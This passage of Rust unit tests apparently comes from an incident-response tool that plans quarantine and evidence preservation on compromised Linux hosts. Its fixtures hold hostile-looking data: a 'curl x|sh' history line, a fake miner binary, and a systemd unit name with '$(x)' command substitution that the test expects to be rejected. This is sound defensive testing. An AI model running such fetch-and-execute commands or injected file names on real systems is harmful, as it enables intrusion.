
    #[test]
    fn evidence_is_preserved_never_removed_and_context_is_left_alone() {
        let auth = b"Apr  2 01:17:04 h sshd[1]: Accepted password for git from 127.66.1.9\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/var/log/auth.log", Some(auth)),
                fixture::file(b"/root/.bash_history", Some(b"curl x|sh\n")),
                fixture::file(b"/tmp/.x/miner", Some(b"\x7fELF miner")),
                fixture::file(b"/root/.acme.sh/acme.sh", Some(b"#!/bin/sh\n")),
            ],
            vec![],
        );
        let file = |p: &[u8]| file_subject(model.file(p).expect("record"));
        let findings = vec![
            // A detector that (wrongly) declares a log an artifact: the planner still only copies it.
            finding(&crate::detect::rules::ACC_010, Severity::High)
                .subject(file(b"/var/log/auth.log"))
                .subject_as(file(b"/root/.bash_history"), Role::Evidence),
            finding(&crate::detect::rules::EVA_050, Severity::High)
                .subject(file(b"/tmp/.x/miner"))
                .subject_as(file(b"/root/.acme.sh/acme.sh"), Role::Context),
        ];
        let plan = build(&model, &Indicators::builtin(), &doc(findings));
        assert_eq!(quarantined(&plan), vec![&b"/tmp/.x/miner"[..]]);
        let preserved: Vec<&[u8]> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::PreserveFile(f) => Some(f.path.as_bytes()),
                _ => None,
            })
            .collect();
        assert_eq!(
            preserved,
            vec![
                &b"/root/.bash_history"[..],
                b"/var/log/auth.log",
                b"/tmp/.x/miner"
            ]
        );
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/var/log/auth.log") && m.contains("evidence")),
            "{:?}",
            plan.manual
        );
        assert!(!plan.manual.iter().any(|m| m.contains("acme")));
    }

    #[test]
    fn evidence_alone_is_not_copied_when_nothing_is_destroyed() {
        let model = fixture::model(
            vec![fixture::file(b"/var/log/auth.log", Some(b"x\n"))],
            vec![],
        );
        let f = finding(&crate::detect::rules::ACC_010, Severity::Medium).subject(file_subject(
            model.file(b"/var/log/auth.log").expect("record"),
        ));
        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
        assert!(plan.is_empty(), "{:?}", plan.items);
    }

    #[test]
    fn merged_usr_names_reach_the_recorded_file_and_its_package_check() {
        let check = fixture::not_owned(b"/lib/libgcwrap.so", "preload");
        let model = fixture::model(
            vec![
                fixture::symlink(b"/lib", b"usr/lib"),
                fixture::file(b"/usr/lib/libgcwrap.so", Some(b"\x7fELF lib")),
            ],
            vec![check],
        );
        let f =
            finding(&crate::detect::rules::PER_040, Severity::Critical).subject(Subject::File {
                path: b"/lib/libgcwrap.so".as_slice().into(),
                sha256: None,
            });
        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
        let q = quarantined(&plan);
        assert_eq!(q, vec![&b"/usr/lib/libgcwrap.so"[..]], "{:?}", plan.items);
    }

    #[test]
    fn unit_names_and_shared_files() {
        assert_eq!(
            unit_name(b"/etc/systemd/system/x.service").as_deref(),
            Some("x.service")
        );
        assert_eq!(
            unit_name(b"/root/.config/systemd/user/a@b.timer").as_deref(),
            Some("a@b.timer")
        );
        assert_eq!(unit_name(b"/etc/systemd/system/$(x).service"), None);
        assert_eq!(unit_name(b"/tmp/x.service"), None);
        assert!(is_shared_file(b"/etc/crontab"));
        assert!(is_shared_file(b"/home/a/.ssh/authorized_keys"));
        assert!(is_shared_file(b"/var/spool/cron/crontabs/root"));
        assert!(!is_shared_file(b"/etc/cron.d/evil"));
        assert!(in_system_dir(b"/usr/bin/ps"));
        assert!(!in_system_dir(b"/tmp/.x/ps"));
    }
}
